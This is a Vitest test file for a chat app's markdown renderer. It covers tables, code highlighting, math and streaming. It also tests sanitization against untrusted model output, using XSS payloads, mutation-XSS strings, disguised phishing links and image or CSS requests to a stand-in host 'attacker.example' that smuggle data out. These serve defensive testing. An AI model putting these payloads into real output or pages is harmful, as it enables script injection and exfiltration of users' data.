// @vitest-environment jsdom
import DOMPurify from "dompurify";
import { Marked } from "marked";
import { describe, expect, it } from "vitest";
import {
  IncrementalMarkdown,
  markdownFeaturesSettled,
  mayHaveMath,
  PURIFY_OPTIONS,
  renderMarkdown,
} from "./markdown.ts";

const TABLE_AND_LISTS = [
  "# Report",
  "",
  "Intro paragraph with **bold**, `code` and a [link](https://example.com).",
  "",
  "| Name | Value |",
  "| ---- | ----: |",
  "| alpha | 1 |",
  "| beta | 2 |",
  "",
  "- tight one",
  "- tight two",
  "  - nested",
  "",
  "1. loose one",
  "",
  "2. loose two",
  "",
  "9. nine",
  "10. ten",
  "",
  "- a",
  "",
  "-",
  "",
  "* star",
  "",
  "*emphasis* after a list",
  "",
  "> a quote",
  "> over two lines",
  "",
  "Setext heading",
  "==============",
  "",
  "```",
  "plain fence",
  "",
  "with a blank line",
  "```",
  "",
  "    indented code",
  "",
  "---",
  "",
  "Last paragraph.",
].join("\n");

const CODE = [
  "Some code:",
  "",
  "```ts",
  "export function greet(name: string): string {",
  "  return `Hello, ${name}!`;",
  "}",
  "```",
  "",
  "~~~python",
  "def f(x):",
  "    return x * 2  # twice",
  "~~~",
  "",
  "- a list with code:",
  "",
  "  ```js",
  "  const x = 1;",
  "  ```",
  "",
  "Done.",
].join("\n");

const MATH = [
  "Euler: $e^{i\\pi} + 1 = 0$, and it costs $5 and $10 to print.",
  "",
  "$$",
  "\\int_0^1 x^2 \\, dx = \\frac{1}{3}",
  "$$",
  "",
  "| sum | value |",
  "| --- | --- |",
  "| $a+b$ | 3 |",
  "",
  "Text after.",
].join("\n");

const LINKS_AND_HTML = [
  "See [the docs][docs] and [missing][nope].",
  "",
  "<details><summary>More</summary>",
  "",
  "Inside *details*.",
  "",
  "</details>",
  "",
  "[docs]: https://example.com/docs 'Docs'",
  "",
  "A line\r\nwith CRLF.",
].join("\n");

const DOCUMENTS = { TABLE_AND_LISTS, CODE, MATH, LINKS_AND_HTML };

/** Streams `text` into one renderer, `step` characters at a time, checking each render against a fresh one. */
function expectIncrementalMatches(text: string, step: number): void {
  const renderer = new IncrementalMarkdown();
  for (let end = 1; end <= text.length + step - 1; end += step) {
    const prefix = text.slice(0, Math.min(end, text.length));
    const html = renderer
      .render(prefix)
      .map((block) => block.html)
      .join("");
    expect(html, `after ${JSON.stringify(prefix.slice(-40))}`).toBe(renderMarkdown(prefix));
  }
}

describe("renderMarkdown", () => {
  it("renders GFM tables and fenced code", () => {
    const html = renderMarkdown("| a | b |\n|---|---|\n| 1 | 2 |\n\n```\nconst x = 1;\n```");
    expect(html).toContain("<table>");
    expect(html).toContain("<pre><code>const x = 1;");
  });

  it("gives what marked and DOMPurify give for the whole text at once", () => {
    const reference = new Marked({ gfm: true, breaks: false, async: false });
    const purify = DOMPurify(window);
    purify.addHook("afterSanitizeAttributes", (node) => {
      if (node.tagName === "A") node.setAttribute("target", "_blank");
      if (node.tagName === "A") node.setAttribute("rel", "noopener noreferrer nofollow");
    });
    const options = { ...PURIFY_OPTIONS, RETURN_DOM_FRAGMENT: false };
    // Fawn adds the host of a link whose text does not name it (the document has one).
    // and wraps each code block with its toolbar's placeholder.
    const rendered = renderMarkdown(TABLE_AND_LISTS)
      .replace(' title="example.com"', "")
      .replace('<span class="link-host">(example.com)</span>', "")
      .replaceAll('<div class="code-block"><div class="code-tools" data-fawn-code="code"></div>', "")
      .replaceAll("</pre></div>", "</pre>");
    expect(rendered).toBe(purify.sanitize(reference.parse(TABLE_AND_LISTS) as string, options));
  });

  it("gives each code block an empty toolbar placeholder, a diagram's only once its fence is closed", () => {
    const open = renderMarkdown("```mermaid\ngraph TD; A-->B\n");
    expect(open).toContain('data-fawn-code="code"');
    expect(open).not.toContain("mermaid-source");
    const closed = renderMarkdown("```mermaid\ngraph TD; A-->B\n```\n\n```\nplain\n```");
    expect(closed).toContain('<div class="code-tools" data-fawn-code="mermaid"></div><pre class="mermaid-source">');
    expect(closed).toContain("graph TD; A--&gt;B");
    expect(closed.match(/data-fawn-code=/g)).toHaveLength(2);
  });

  it("names a thread picture the model gave no alternative text by its file", () => {
    const html = renderMarkdown('<img src="charts/q3%20sales.png"> ![Given](chart.png)');
    expect(html).toContain('alt="q3 sales.png"');
    expect(html).toContain('alt="Given"');
  });

  it("lets no model text make a toolbar placeholder of its own", () => {
    const html = renderMarkdown('<div data-fawn-code="mermaid">x</div> <pre data-fawn-code="code">y</pre>');
    expect(html.match(/data-fawn-code=/g)).toHaveLength(1);
    expect(html).toContain('<div class="code-tools" data-fawn-code="code"></div><pre>y</pre>');
  });

  it("removes scripts and event handlers from model output", () => {
    const html = renderMarkdown('Hi <img src=x onerror="alert(1)"> <script>alert(2)</script> [x](javascript:alert(3))');
    expect(html).not.toMatch(/onerror|<script|javascript:/i);
  });

  it("opens links in a new tab without access to the app", () => {
    expect(renderMarkdown("[docs](https://example.com)")).toContain('rel="noopener noreferrer nofollow"');
  });

  it("shows a [citation:Title](url) as a chip naming the site, with the title on hover and in its name", () => {
    const page = new DOMParser().parseFromString(
      renderMarkdown(
        "Rates rose [citation:Fed raises rates](https://www.example.com/news?id=1) and " +
          "[citation:Bad](javascript:alert(1)) [citation:Local](notes.md) [citation:](https://x.org) [plain](https://y.org).",
      ),
      "text/html",
    );
    const links = [...page.querySelectorAll("a")];
    const chip = links[0]!;
    expect(chip.className).toBe("citation");
    expect(chip.textContent).toBe("example.com");
    expect(chip.getAttribute("href")).toBe("https://www.example.com/news?id=1");
    expect(chip.getAttribute("title")).toBe("Fed raises rates");
    expect(chip.getAttribute("aria-label")).toBe("Fed raises rates (example.com)");
    expect(chip.getAttribute("rel")).toBe("noopener noreferrer nofollow");
    // Anything that is not a web citation stays an ordinary (sanitized) link or text.
    expect(page.querySelectorAll("a.citation")).toHaveLength(1);
    expect(page.body.innerHTML).not.toContain("javascript:");
    expect(links.map((link) => link.textContent)).toEqual([
      "example.com",
      "citation:Bad",
      "citation:Local",
      "citation:",
      "plain",
    ]);
  });

  it("marks images and links that may be thread files, so no image is fetched from Fawn's own server", () => {
    const html = renderMarkdown(
      "![Sales](chart.png) ![Logo](https://example.com/logo.png) [details](../uploads/notes.md) [web](https://example.com) [top](#top)",
    );
    const page = new DOMParser().parseFromString(html, "text/html");
    const [local, ...others] = [...page.querySelectorAll("img")];
    expect(others).toEqual([]);
    expect(local?.hasAttribute("src")).toBe(false);
    expect(local?.getAttribute("data-fawn-file")).toBe("chart.png");
    expect(local?.getAttribute("alt")).toBe("Sales");
    const links = [...page.querySelectorAll("a")].map((link) => link.getAttribute("data-fawn-file"));
    expect(links).toEqual(["../uploads/notes.md", null, null]);
  });

  it("highlights a closed code fence once its grammar has loaded, and leaves a streaming one plain", async () => {
    renderMarkdown(CODE);
    await markdownFeaturesSettled();
    const html = renderMarkdown(CODE);
    expect(html).toContain('<code class="hljs language-typescript"><span class="hljs-keyword">export</span>');
    expect(html).toContain('<code class="hljs language-python">');
    expect(html).toContain('<span class="hljs-comment"># twice</span>');
    const open = renderMarkdown("```ts\nconst x = 1;\n");
    expect(open).toContain('<code class="language-ts">const x = 1;');
    expect(open).not.toContain("hljs");
  });

  it("typesets $inline$ and $$display$$ math as MathML, without the TeX source", async () => {
    renderMarkdown(MATH);
    await markdownFeaturesSettled();
    const html = renderMarkdown(MATH);
    expect(html.match(/<math/g)).toHaveLength(3);
    expect(html).toMatch(/<math [^>]*display="block"/);
    expect(html).toContain("<mfrac>");
    expect(html).not.toMatch(/<annotation|\\frac/);
    // Dollar amounts stay text.
    expect(html).toContain("it costs $5 and $10 to print.");
  });

  it("does not take dollar amounts for math", () => {
    expect(mayHaveMath("It costs $5 and $10, or $3.50 each.")).toBe(false);
    expect(mayHaveMath("Pay $20 now; the rest ($30) later.")).toBe(false);
    expect(mayHaveMath("where $x$ is the input")).toBe(true);
    expect(mayHaveMath("$$\nx^2\n$$")).toBe(true);
    expect(mayHaveMath("From $5-$10, or $20,000 and $30,000.")).toBe(false);
    expect(mayHaveMath("the sum ($a+b$) is")).toBe(true);
    expect(renderMarkdown("It costs $5 and $10.")).toBe("<p>It costs $5 and $10.</p>\n");
  });

  it("keeps dollar amounts as text even when math follows in the same paragraph", async () => {
    renderMarkdown("$x$");
    await markdownFeaturesSettled();
    const html = renderMarkdown("Runs cost $5 and $10 each; the loss is $x^2$ here.");
    expect(html).toMatch(/^<p>Runs cost \$5 and \$10 each; the loss is <span class="katex"><math /);
    expect(html.match(/<math/g)).toHaveLength(1);
  });

  it("keeps math sanitized: no script, handler or javascript: link gets through", async () => {
    renderMarkdown("$x$");
    await markdownFeaturesSettled();
    const attempts = [
      "$\\href{javascript:alert(1)}{click}$ here",
      "$$\n\\htmlId{x}{\\text{<img src=x onerror=alert(1)>}}\n$$",
      "$x$ <img src=x onerror=alert(2)>",
      "<math><mtext><img src=x onerror=alert(3)></mtext></math>",
      '<math><annotation-xml encoding="text/html"><script>alert(4)</script></annotation-xml></math>',
      "<math><mi xlink:href=\"javascript:alert(5)\">x</mi><maction actiontype='statusline'>y</maction></math>",
      "$\\url{javascript:alert(6)}$ and $\\includegraphics{x.png}$",
    ];
    for (const attempt of attempts) {
      const html = renderMarkdown(attempt);
      expect(html, attempt).not.toMatch(/onerror|<script|javascript:|<iframe/i);
    }
  });
});

/** The rendered HTML parsed in an inert document. */
function parse(html: string): Document {
  return new DOMParser().parseFromString(html, "text/html");
}

/** Tags that fetch, run, frame, submit or style anything; none may come out of model text. */
const ACTIVE_TAGS =
  "script, style, link, meta, base, iframe, frame, frameset, object, embed, video, audio, source, track, picture, " +
  "svg, form, input, button, textarea, select, template, dialog, noscript, area, map";

/** Everything in `html` that could fetch or run without a click, as "tag attribute" strings. */
function activeParts(html: string): string[] {
  const page = parse(html);
  const found = [...page.body.querySelectorAll(ACTIVE_TAGS)].map((element) => element.localName);
  for (const element of page.body.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      const dataImage = element.localName === "img" && name === "src" && /^data:image\/png;/.test(value);
      const link = element.localName === "a" && name === "href" && /^(https?:|mailto:|#|[\w./-]+$)/.test(value);
      if (
        /^on|^(src|srcset|poster|background|action|formaction|data|ping|style|xlink:href|href|srcdoc)$/.test(name) &&
        !dataImage &&
        !link
      ) {
        found.push(`${element.localName} ${name}=${value}`);
      }
    }
  }
  return found;
}

describe("model text is untrusted", () => {
  it("shows a web image as an empty placeholder holding its address, never as an <img src>", () => {
    const html = renderMarkdown(
      [
        "![leak](https://attacker.example/p.png?d=secret)",
        '<img src="http://attacker.example/raw.png" alt="raw" srcset="http://attacker.example/2x.png 2x">',
        "![proto](//attacker.example/relative.png)",
        "![loopback](http://127.0.0.1:9/x.png)",
        '<img src="\\\\attacker.example\\back.png">',
        '<img src="ht&#9;tp://attacker.example/tab.png" alt="tab">',
      ].join("\n\n"),
    );
    expect(activeParts(html)).toEqual([]);
    const page = parse(html);
    const placeholders = [...page.querySelectorAll("span.remote-image")];
    expect(placeholders.map((placeholder) => placeholder.getAttribute("data-fawn-remote"))).toEqual([
      "https://attacker.example/p.png?d=secret",
      "http://attacker.example/raw.png",
      `${window.location.protocol}//attacker.example/relative.png`,
      "http://127.0.0.1:9/x.png",
      "http://attacker.example/back.png",
      "http://attacker.example/tab.png",
    ]);
    expect(placeholders.map((placeholder) => placeholder.getAttribute("data-fawn-alt"))).toEqual([
      "leak",
      "raw",
      "proto",
      "loopback",
      null,
      "tab",
    ]);
    expect(placeholders.every((placeholder) => placeholder.childNodes.length === 0)).toBe(true);
    expect(page.querySelectorAll("img")).toHaveLength(0);
  });

  it("keeps data: pictures, drops other data: and unknown sources, and never keeps a srcset", () => {
    const png = "data:image/png;base64,iVBORw0KGgo=";
    const html = renderMarkdown(
      `<img src="${png}" srcset="http://attacker.example/s.png 2x"> ` +
        '<img src="data:text/html;base64,PHNjcmlwdD4="> <img src="blob:http://localhost/x"> ' +
        '<img src="javascript:alert(1)"> <img srcset="http://attacker.example/only.png">',
    );
    expect(activeParts(html)).toEqual([]);
    const images = [...parse(html).querySelectorAll("img")];
    expect(images.map((image) => image.getAttribute("src"))).toEqual([png, null, null, null, null]);
  });

  it("strips inline style and <style>, so nothing fetches url()s or lays itself over the app", () => {
    const html = renderMarkdown(
      [
        '<a href="https://example.com" style="position:fixed;inset:0;z-index:9999">Sign in again</a>',
        '<div style="background:url(http://attacker.example/bg.png)">x</div>',
        "<style>@import url(http://attacker.example/i.css); body { display: none }</style>",
        '<table background="http://attacker.example/t.png"><tr><td background="http://attacker.example/td.png">x</td></tr></table>',
        '<link rel="stylesheet" href="http://attacker.example/s.css"><link rel="prefetch" href="http://attacker.example/p">',
      ].join("\n\n"),
    );
    expect(activeParts(html)).toEqual([]);
    expect(html).not.toMatch(/url\(|@import|position:fixed/);
  });

  it("keeps only the classes of code, math and citations, no ARIA, role or data-* of the model's", () => {
    const html = renderMarkdown(
      '<div class="toast sidebar-scrim hljs-keyword katex" role="alert" aria-label="Fawn" data-fawn-file="/mnt/user-data/outputs/x.png" data-x="1">x</div>',
    );
    expect(html).toBe('<div class="hljs-keyword katex">x</div>');
  });

  it("prefixes ids and names, so model text cannot clobber the app's globals", () => {
    const html = renderMarkdown('<img id="__proto__" name="gateway"><a id="defaultView" name="cookie">x</a>');
    const page = parse(html);
    expect(page.querySelector("a")?.id).toBe("user-content-defaultView");
    expect(page.querySelector("a")?.getAttribute("name")).toBe("user-content-cookie");
  });

  it("removes media, frames, objects, forms, meta, base, SVG and their addresses", () => {
    const attempts = [
      '<video poster="http://attacker.example/p.png" src="http://attacker.example/v.mp4" autoplay></video>',
      '<audio src="http://attacker.example/a.mp3" autoplay></audio>',
      '<video><source src="http://attacker.example/s.mp4"><track src="http://attacker.example/t.vtt"></video>',
      '<picture><source srcset="http://attacker.example/p.png"><img src="fallback.png"></picture>',
      '<iframe src="http://attacker.example/"></iframe><iframe srcdoc="<script>parent.x=1</script>"></iframe>',
      '<object data="http://attacker.example/o.swf"></object><embed src="http://attacker.example/e.swf">',
      '<meta http-equiv="refresh" content="0;url=http://attacker.example/"><base href="http://attacker.example/">',
      '<form action="http://attacker.example/f"><input name="q"><button formaction="javascript:alert(1)">Go</button></form>',
      '<svg><image href="http://attacker.example/i.png"/><use href="http://attacker.example/u.svg#a"/></svg>',
      '<svg onload="alert(1)"><script>alert(2)</script><foreignObject><img src=x onerror=alert(3)></foreignObject></svg>',
      '<math><mi href="http://attacker.example/m" xlink:href="javascript:alert(1)">x</mi></math>',
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
      "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
      "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
      '<template><img src=x onerror=alert(1)></template><details open ontoggle="alert(1)"><summary>s</summary></details>',
      '<button popovertarget="p">x</button><div popover id="p">y</div><a href="https://example.com" ping="http://attacker.example/">p</a>',
      '<a href="jav&#x09;ascript:alert(1)">a</a><a href="&#106;avascript:alert(1)">b</a><a href="vbscript:msgbox(1)">c</a>',
      "[d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [e](javascript:alert(1))",
    ];
    for (const attempt of attempts) expect(activeParts(renderMarkdown(attempt)), attempt).toEqual([]);
  });

  it("shows a link's real host beside it when its text does not name it, and in its title", () => {
    const page = parse(
      renderMarkdown(
        [
          "[Docs](https://docs.example.com/a) [bank.example](https://attacker.example/login)",
          "[https://bank.example/login](https://attacker.example/login) <https://example.com/path>",
          "[www.example.com](https://example.com/x) [раураl.com](https://xn--80aa0cbo65f.com/)",
          "[good\u200b.example](https://attacker.example/) [mail me](mailto:someone@example.com)",
          '[citation:Fed raises rates](https://www.example.com/news) <a class="citation" href="https://attacker.example/">reuters.com</a>',
          '[notes](notes.md) [top](#top) <a href="\\\\attacker.example/x">notes.md</a>',
        ].join("\n\n"),
      ),
    );
    const shown = [...page.querySelectorAll("a")].map((link) => {
      const next = link.nextElementSibling;
      return [link.textContent, next?.className === "link-host" ? next.textContent : null, link.title];
    });
    expect(shown).toEqual([
      ["Docs", "(docs.example.com)", "docs.example.com"],
      ["bank.example", "(attacker.example)", "attacker.example"],
      ["https://bank.example/login", "(attacker.example)", "attacker.example"],
      ["https://example.com/path", null, ""],
      ["www.example.com", null, ""],
      ["раураl.com", "(xn--80aa0cbo65f.com)", "xn--80aa0cbo65f.com"],
      ["good\u200b.example", "(attacker.example)", "attacker.example"],
      ["mail me", "(mailto:someone@example.com)", "mailto:someone@example.com"],
      ["example.com", null, "Fed raises rates"],
      ["reuters.com", "(attacker.example)", "attacker.example"],
      ["notes", null, ""],
      ["top", null, ""],
      ["notes.md", "(attacker.example)", "attacker.example"],
    ]);
    const links = [...page.querySelectorAll("a")];
    expect(links.every((link) => link.target === "_blank" && link.rel === "noopener noreferrer nofollow")).toBe(true);
    // A citation is named by its real host, a fake one too.
    expect(links[8]?.getAttribute("aria-label")).toBe("Fed raises rates (example.com)");
    expect(links[9]?.getAttribute("aria-label")).toBe("attacker.example");
    expect(links[12]?.hasAttribute("data-fawn-file")).toBe(false);
  });

  it("renders KaTeX's MathML without style; its error keeps its class and message", async () => {
    renderMarkdown("$x$");
    await markdownFeaturesSettled();
    const html = renderMarkdown("$\\color{red}{x} + \\frac{1}{2}$ and $\\badmacro{$");
    expect(html).not.toContain("style=");
    const page = parse(html);
    expect(page.querySelector("math mfrac")).not.toBeNull();
    expect(page.querySelector('[mathcolor="red"]')).not.toBeNull();
    const error = page.querySelector(".katex-error");
    expect(error?.getAttribute("title")).toMatch(/ParseError/);
  });
});

describe("IncrementalMarkdown", () => {
  it("renders every prefix of a streamed text exactly as the whole prefix renders", async () => {
    // Load what the documents use first, so both sides render with the same grammars and KaTeX.
    for (const text of Object.values(DOCUMENTS)) renderMarkdown(text);
    await markdownFeaturesSettled();
    for (const [name, text] of Object.entries(DOCUMENTS)) {
      for (const step of [1, 7]) {
        expect(() => expectIncrementalMatches(text, step), `${name}, ${step} at a time`).not.toThrow();
      }
    }
  });

  it("keeps finished blocks from one render to the next and re-renders only the growing one", () => {
    const renderer = new IncrementalMarkdown();
    const first = renderer.render("# Title\n\nFirst paragraph.\n\nSecond para");
    const second = renderer.render("# Title\n\nFirst paragraph.\n\nSecond paragraph, longer");
    expect(second).toHaveLength(3);
    expect(second[0]).toBe(first[0]);
    expect(second[1]).toBe(first[1]);
    expect(second[2]!.html).toBe("<p>Second paragraph, longer</p>\n");
  });

  it("keeps a code fence split mid-stream as one block until it closes", () => {
    const renderer = new IncrementalMarkdown();
    const parts = ["Intro\n\n``", "`\nline 1\n", "line 2\n``", "`\n\nAfter."];
    let text = "";
    let blocks: readonly { html: string }[] = [];
    for (const part of parts) {
      text += part;
      blocks = renderer.render(text);
    }
    expect(blocks.map((block) => block.html)).toEqual([
      "<p>Intro</p>\n",
      '<div class="code-block"><div class="code-tools" data-fawn-code="code"></div><pre><code>line 1\nline 2\n</code></pre></div>\n',
      "<p>After.</p>\n",
    ]);
  });

  it("lets a new view of a text that was just rendered take its blocks over", () => {
    const live = new IncrementalMarkdown({ shareRecent: true });
    live.render("# Reply\n\nStreaming");
    const final = live.render("# Reply\n\nStreaming done.");
    const saved = new IncrementalMarkdown({ shareRecent: true }).render("# Reply\n\nStreaming done.");
    expect(saved).toEqual(final);
    expect(saved[0]).toBe(final[0]);
    expect(saved[1]).toBe(final[1]);
    // Without sharing, a renderer renders for itself.
    expect(new IncrementalMarkdown().render("# Reply\n\nStreaming done.")[0]).not.toBe(final[0]);
  });

  it("starts over when the text is replaced rather than extended", () => {
    const renderer = new IncrementalMarkdown();
    renderer.render("First.\n\nSecond.\n\nThird");
    expect(renderer.render("Other.\n\nText").map((block) => block.html)).toEqual(["<p>Other.</p>\n", "<p>Text</p>\n"]);
  });
});
